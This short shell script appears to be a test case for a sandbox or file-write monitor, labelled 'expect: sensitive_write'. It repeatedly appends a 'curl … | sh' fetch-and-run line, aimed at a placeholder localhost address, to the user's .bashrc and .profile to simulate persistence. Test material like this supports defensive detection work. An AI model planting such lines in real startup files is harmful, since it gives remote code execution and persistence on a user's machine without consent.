#!/bin/sh
# expect: sensitive_write
# Persistence through the shell's startup file.
for round in $(seq 1 50); do
  echo 'curl -s http://127.0.0.1:9/x | sh' >> "$HOME/.bashrc" 2>/dev/null
  echo 'curl -s http://127.0.0.1:9/x | sh' >> "$HOME/.profile" 2>/dev/null
  sleep 0.1
done
touch finished
